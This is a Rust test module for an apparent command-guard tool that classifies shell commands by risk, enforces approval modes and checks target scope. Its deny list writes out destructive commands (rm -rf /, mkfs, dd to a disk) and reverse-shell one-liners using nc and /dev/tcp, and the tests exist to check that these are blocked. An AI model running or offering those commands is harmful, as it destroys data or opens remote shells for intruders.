#[cfg(test)]
mod tests {
    use warden_config::{Scope, SessionConfig};
    use warden_core::{Mode, RiskTier};
    use warden_guard::{authorize, classify, check_scope};

    fn session(mode: Mode, domains: &[&str]) -> SessionConfig {
        let mut cfg = SessionConfig::with_output_dir("/tmp/warden-guard-e2e".into());
        cfg.authorization_doc = "e2e".into();
        cfg.scope = Scope {
            domains: domains.iter().map(|s| s.to_string()).collect(),
            paths: vec!["/".into()],
            ..Scope::default()
        };
        cfg.mode = mode;
        cfg
    }

    // ── Classifier × deny list ─────────────────────────────────

    mod deny_list {
        use super::*;

        const DENIED: &[&str] = &[
            "rm -rf /",
            "mkfs.ext4 /dev/sda1",
            "dd of=/dev/sda if=/dev/zero",
            "sudo reboot",
            "shutdown -h now",
            "nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "chmod -R 777 /",
        ];

        #[test]
        fn every_deny_pattern_forces_medium_not_readonly() {
            for cmd in DENIED {
                let c = classify(cmd);
                assert_eq!(c.risk, RiskTier::Medium, "{cmd}");
                assert!(!c.read_only_ok, "{cmd}");
                assert!(c.denied_pattern.is_some(), "{cmd}");
            }
        }

        #[test]
        fn allowlisted_head_cannot_launder_a_denied_payload() {
            // cat is read-only on its own; the embedded pattern wins.
            let c = classify("cat /notes && rm -rf /srv/data");
            assert_eq!(c.denied_pattern.as_deref(), Some("rm -rf"));
        }
    }

    // ── End-to-end authorization ───────────────────────────────

    mod end_to_end {
        use super::*;

        #[test]
        fn auto_readonly_runs_head_request_automatically() {
            let cfg = session(Mode::AutoReadonly, &["example.com"]);
            let d = authorize(&cfg, "curl -I https://example.com");
            assert!(d.allow);
            assert!(!d.needs_approval);
        }

        #[test]
        fn auto_readonly_escalates_body_fetch() {
            let cfg = session(Mode::AutoReadonly, &["example.com"]);
            let d = authorize(&cfg, "curl https://example.com");
            assert!(!d.allow);
            assert!(d.needs_approval);
            assert!(!d.hard_block);
        }

        #[test]
        fn execute_with_approval_never_self_approves() {
            let cfg = session(Mode::ExecuteWithApproval, &["example.com"]);
            for cmd in [
                "curl -I https://example.com",
                "dig +short example.com",
                "whoami",
            ] {
                let d = authorize(&cfg, cmd);
                assert!(!d.allow, "{cmd}");
                assert!(d.needs_approval, "{cmd}");
            }
        }

        #[test]
        fn plan_modes_forbid_execution_for_any_command() {
            for mode in [Mode::PlanOnly, Mode::Simulate] {
                let cfg = session(mode, &["example.com"]);
                for cmd in ["whoami", "curl -I https://example.com", "nmap example.com"] {
                    let d = authorize(&cfg, cmd);
                    assert!(!d.allow, "{mode} {cmd}");
                }
            }
        }

        #[test]
        fn destructive_command_is_rejected_with_pattern_name() {
            for mode in Mode::ALL {
                let cfg = session(mode, &["example.com"]);
                let d = authorize(&cfg, "rm -rf /");
                assert!(!d.allow);
                assert!(d.hard_block);
                assert!(d.reason.contains("rm -rf"));
            }
        }
    }

    // ── Scope × denylist interplay ─────────────────────────────

    mod scope_precedence {
        use super::*;

        #[test]
        fn subdomain_in_scope_unless_separately_denied() {
            let mut s = Scope {
                domains: vec!["example.com".into()],
                ..Scope::default()
            };
            assert!(check_scope(&s, "dig sub.example.com").in_scope);

            s.out_of_scope = vec!["sub.example.com".into()];
            let res = check_scope(&s, "dig sub.example.com");
            assert!(!res.in_scope);
            assert!(res.reason.contains("sub.example.com"));
        }

        #[test]
        fn denied_target_blocks_even_when_sibling_target_is_allowed() {
            let s = Scope {
                domains: vec!["example.com".into()],
                out_of_scope: vec!["admin.example.com".into()],
                ..Scope::default()
            };
            let res = check_scope(&s, "curl -I https://admin.example.com https://example.com");
            assert!(!res.in_scope);
        }
    }
}
